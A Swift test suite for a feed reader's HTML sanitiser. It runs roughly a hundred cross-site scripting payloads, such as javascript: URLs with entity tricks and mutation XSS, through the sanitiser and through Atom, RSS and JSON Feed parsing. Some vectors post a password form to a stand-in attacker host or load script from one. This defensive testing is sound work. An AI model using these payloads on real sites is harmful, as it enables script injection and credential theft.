import Foundation
import OutcryModel
import Testing
@testable import OutcryParse

/// Issue 13 item 17: script must not get through the HTML sanitiser. Each vector goes through
/// the sanitiser directly and as Atom, RSS and JSON Feed content along the poller's path; the
/// output is re-read with the HTML5 tokeniser and must hold no executable construct.
@Suite struct SanitizerXSSTests {
    static let vectors: [String] = [
        // Tag text an SGML reader could not read (slash as attribute separator).
        "<svg/onload=alert(1)>",
        "<svg onload=alert(1)>",
        "<svg><script>alert(1)</script></svg>",
        "<img/onerror=alert(1) src=x>",
        "<img src=x onerror=alert(1)>",
        "<img/src=x/onerror=alert(1)>",
        "<img src=x:alert(alt) onerror=eval(src) alt=0>",
        "<a/href=\"javascript:alert(1)\">click</a>",
        "<a/href=javascript:alert(1)>click</a>",
        "<div/onmouseover='alert(1)'>x</div>",
        "<details open ontoggle=alert(1)>x</details>",
        "<x onmouseover=alert(1)>x</x>",
        "<a href=\"#\" onclick=\"alert(1)\">x</a>",
        "<body onload=alert(1)>",
        // javascript: in href, plain and cased.
        "<a href=\"javascript:alert(1)\">x</a>",
        "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
        "<a href=\"  javascript:alert(1)\">x</a>",
        // Entity-encoded schemes.
        "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">x</a>",
        "<a href=\"&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)\">x</a>",
        "<a href=\"&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)\">x</a>",
        "<a href=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)>x</a>",
        "<a href=\"javascript&colon;alert(1)\">x</a>",
        "<a href=\"javascript&#58;alert(1)\">x</a>",
        "<a href=\"javascript&#x3A;alert(1)\">x</a>",
        "<a href=\"javascript&#x3a alert(1)\">x</a>",
        // White space and control characters inside or before a scheme.
        "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
        "<a href=\"jav&#x0A;ascript:alert(1)\">x</a>",
        "<a href=\"jav&#x0D;ascript:alert(1)\">x</a>",
        "<a href=\"jav&#9ascript:alert(1)\">x</a>",
        "<a href=\"java&#x0000000009;script:alert(1)\">x</a>",
        "<a href=\"jav&Tab;ascript:alert(1)\">x</a>",
        "<a href=\"java&NewLine;script:alert(1)\">x</a>",
        "<a href=\"&#x1;javascript:alert(1)\">x</a>",
        "<a href=\" &#14;  javascript:alert(1)\">x</a>",
        "<a href=\"java\tscript:alert(1)\">x</a>",
        "<a href=\"java\nscript:alert(1)\">x</a>",
        "<a href=\"\u{1}javascript:alert(1)\">x</a>",
        "<img src=\"&#x20;javascript:alert(1)\">",
        // Other schemes.
        "<a href=\"vbscript:msgbox(1)\">x</a>",
        "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
        "<a href=\"livescript:alert(1)\">x</a>",
        // SVG links and animation of href.
        "<svg><a xlink:href=\"javascript:alert(1)\"><text x=\"20\" y=\"20\">XSS</text></a></svg>",
        "<svg xmlns:xlink=\"http://www.w3.org/1999/xlink\"><a xlink:href=\"javascript:alert(1)\"><rect width=\"100\" height=\"100\"/></a></svg>",
        "<svg><animate xlink:href=\"#x\" attributeName=\"href\" values=\"javascript:alert(1)\"/><a id=\"x\"><text>click</text></a></svg>",
        "<svg><set attributeName=\"href\" to=\"javascript:alert(1)\"/><a><text>x</text></a></svg>",
        "<a><animate attributeName=\"href\" values=\"javascript:alert(1)\"/>x</a>",
        "<math><maction actiontype=\"statusline\" xlink:href=\"javascript:alert(1)\">x</maction></math>",
        "<math href=\"javascript:alert(1)\">x</math>",
        "<svg><style><img src=x onerror=alert(1)></style></svg>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
        // Mutation XSS through comments, noscript and `--!>`.
        "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
        "<!--><img src=x onerror=alert(1)>-->",
        "<!---><img src=x onerror=alert(1)>-->",
        "<!-- --!><img src=x onerror=alert(1)> -->",
        "<!--[if IE]><img src=x onerror=alert(1)><![endif]-->",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
        "<noscript><style></noscript><img src=x onerror=alert(1)></style></noscript>",
        "<textarea><script>alert(1)</script></textarea>",
        "<title><img src=x onerror=alert(1)></title>",
        "<xmp><img src=x onerror=alert(1)></xmp>",
        "<plaintext><img src=x onerror=alert(1)>",
        "<style><img src=x onerror=alert(1)></style>",
        // Forms.
        "<form action=\"javascript:alert(1)\"><input type=\"submit\"></form>",
        "<form action=\"http://evil.example/steal\"><input name=\"pw\"></form>",
        "<form><button formaction=\"javascript:alert(1)\">x</button></form>",
        "<input type=\"image\" src=\"javascript:alert(1)\">",
        // Stripping that would assemble a new tag.
        "<<x>script>alert(1)<</x>/script>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<<script>script>alert(1)<</script>/script>",
        "<<img src=x onerror=alert(1)//<",
        "<a<x> href=\"javascript:alert(1)\">x</a>",
        // Old browsers: script URLs in src, background, poster, lowsrc, dynsrc.
        "<img src=\"javascript:alert(1)\">",
        "<IMG SRC=JaVaScRiPt:alert('XSS')>",
        "<IMG SRC=javascript:alert(&quot;XSS&quot;)>",
        "<img dynsrc=\"javascript:alert(1)\">",
        "<img lowsrc=\"javascript:alert(1)\">",
        "<img src=\"vbscript:msgbox(1)\">",
        "<table background=\"javascript:alert(1)\"><tr><td>x</td></tr></table>",
        "<td background=\"vbscript:msgbox(1)\">x</td>",
        "<video poster=\"javascript:alert(1)\"></video>",
        "<blockquote cite=\"javascript:alert(1)\">x</blockquote>",
        "<IMG \"\"\"><SCRIPT>alert(\"XSS\")</SCRIPT>\">",
        // Elements that load or run things.
        "<script>alert(1)</script>",
        "<SCRIPT SRC=http://xss.example/xss.js></SCRIPT>",
        "<iframe src=\"javascript:alert(1)\"></iframe>",
        "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
        "<object data=\"javascript:alert(1)\"></object>",
        "<embed src=\"javascript:alert(1)\">",
        "<template><img src=x onerror=alert(1)></template>",
        "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
        "<base href=\"javascript:alert(1)//\">",
        "<link rel=\"stylesheet\" href=\"javascript:alert(1)\">",
        "<div style=\"background:url(javascript:alert(1))\">x</div>",
        "<div style=\"width: expression(alert(1))\">x</div>",
        "<div style=\"x&#58;expression(alert(1))\">x</div>",
        "<style>@import 'javascript:alert(1)';</style>",
    ]

    /// The executable constructs in `html`, read back with the tokeniser.
    static func problems(_ html: String) -> [String] {
        var found = HTMLAllowList.dangers(html)
        let lower = html.lowercased()
        for needle in ["<script", "<svg", "<math", "<iframe", "<object", "<embed", "<animate", "<set", "<noscript", "<form action"]
        where lower.contains(needle) {
            found.append("raw \(needle)")
        }
        return found
    }

    @Test func atLeastSixtyVectors() {
        #expect(Self.vectors.count >= 60)
    }

    @Test(arguments: vectors)
    func sanitizeLeavesNothingExecutable(_ vector: String) {
        let out = HTMLSanitizer.sanitize(vector)
        #expect(Self.problems(out).isEmpty, "\(vector) → \(out): \(Self.problems(out))")
        let resolved = HTMLSanitizer.resolveAndSanitize(vector, base: "http://example.org/feed/")
        #expect(Self.problems(resolved).isEmpty, "\(vector) → \(resolved): \(Self.problems(resolved))")
        let xhtml = HTMLSanitizer.sanitize(vector, type: "application/xhtml+xml")
        #expect(Self.problems(xhtml).isEmpty, "\(vector) → \(xhtml): \(Self.problems(xhtml))")
        #expect(HTMLSanitizer.sanitize(out) == out, "not idempotent: \(vector) → \(out) → \(HTMLSanitizer.sanitize(out))")
    }

    static func xmlEscaped(_ s: String) -> String {
        s.replacingOccurrences(of: "&", with: "&amp;").replacingOccurrences(of: "<", with: "&lt;")
            .replacingOccurrences(of: ">", with: "&gt;")
    }

    static func jsonEscaped(_ s: String) -> String {
        let data = try! JSONSerialization.data(withJSONObject: [s], options: [.fragmentsAllowed])
        let array = String(decoding: data, as: UTF8.self)
        return String(array.dropFirst().dropLast())
    }

    /// The vectors as feed content, on the poller's path (fast path when it accepts) and the
    /// full feedparser-shaped parse.
    @Test(arguments: vectors)
    func feedContentLeavesNothingExecutable(_ vector: String) {
        let body = Self.xmlEscaped(vector)
        let atom = """
            <?xml version="1.0" encoding="utf-8"?><feed xmlns="http://www.w3.org/2005/Atom"><title>t</title>
            <entry><id>urn:1</id><title type="html">\(body)</title><content type="html">\(body)</content></entry></feed>
            """
        let rss = """
            <?xml version="1.0" encoding="utf-8"?><rss version="2.0"><channel><title>t</title>
            <item><guid>1</guid><title>x</title><description>\(body)</description></item></channel></rss>
            """
        let json = """
            {"version":"https://jsonfeed.org/version/1.1","title":"t","items":[{"id":"1","content_html":\(Self.jsonEscaped(vector))}]}
            """
        for (name, doc, type) in [("atom", atom, "application/atom+xml"), ("rss", rss, "application/rss+xml"), ("json", json, "application/feed+json")] {
            let bytes = Array(doc.utf8)
            let read = FeedReader.read(bytes, contentType: type, url: "http://example.org/feed", sourceName: "s", fetchedAt: Date())
            for m in read.mentions {
                let html = m.html ?? ""
                #expect(Self.problems(html).isEmpty, "\(name): \(vector) → \(html)")
            }
            let parsed = FeedParser.parse(bytes, contentType: type, url: "http://example.org/feed")
            for entry in parsed.entries {
                for key in ["summary", "title"] {
                    let v = entry[key]?.string ?? ""
                    #expect(Self.problems(v).isEmpty, "\(name) \(key): \(vector) → \(v)")
                }
                let content = entry["content"]?[0]?["value"]?.string ?? ""
                #expect(Self.problems(content).isEmpty, "\(name) content: \(vector) → \(content)")
            }
        }
    }

    @Test func specificOutputs() {
        #expect(HTMLSanitizer.sanitize("<a href=\"jav&#x09;ascript:alert(1)\">x</a>") == "<a href=\"\">x</a>")
        #expect(HTMLSanitizer.sanitize("<a href=\"javascript&colon;alert(1)\">x</a>") == "<a href=\"\">x</a>")
        #expect(HTMLSanitizer.sanitize("<a href=\"&#x1;javascript:alert(1)\">x</a>") == "<a href=\"\">x</a>")
        #expect(HTMLSanitizer.sanitize("<form action=\"http://evil.example/\"><input name=\"pw\" /></form>") == "<form><input name=\"pw\" /></form>")
        #expect(HTMLSanitizer.sanitize("<svg><text>hello</text></svg> world") == "hello world")
        #expect(HTMLSanitizer.sanitize("<math><mi>x</mi><mo>+</mo><mn>1</mn></math>") == "x+1")
        #expect(HTMLSanitizer.sanitize("<b>bold") == "<b>bold</b>")
        #expect(HTMLSanitizer.sanitize("<a href=\"http://ok.example/?a=1&amp;b=2\">ok</a>") == "<a href=\"http://ok.example/?a=1&amp;b=2\">ok</a>")
        #expect(HTMLSanitizer.sanitize("<a href=\"mailto:me@example.org\">me</a>") == "<a href=\"mailto:me@example.org\">me</a>")
        #expect(HTMLSanitizer.sanitize("<a href=\"/relative/path\">r</a>") == "<a href=\"/relative/path\">r</a>")
        #expect(HTMLSanitizer.sanitize("<p>caf&eacute; &amp; &#38; &#x26; &lt;tag&gt;</p>") == "<p>caf&eacute; &amp; &#38; &#x26; &lt;tag&gt;</p>")
        let stripped = HTMLSanitizer.sanitize("<<x>script>alert(1)<</x>/script>")
        #expect(!stripped.lowercased().contains("<script"), "\(stripped)")
    }

    /// URL judgement on decoded values.
    @Test func urlPolicy() {
        for ok in ["http://a.example/", "HTTPS://a.example/", "mailto:x@y", "/p", "p?q=1:2", "#frag", "//host/x", "", " http://a/ "] {
            #expect(HTMLAllowList.isSafeURL(ok), "\(ok)")
        }
        for bad in ["javascript:x", "JAVASCRIPT:x", "jav\tascript:x", "\u{1}javascript:x", " java script:x", "vbscript:x",
                    "data:text/html,x", "java\u{7F}script:x", "ftp://x", "file:///etc/passwd", "x-unknown:1", "javascript&colon;x", "page&x"] {
            #expect(!HTMLAllowList.isSafeURL(bad), "\(bad)")
        }
    }
}
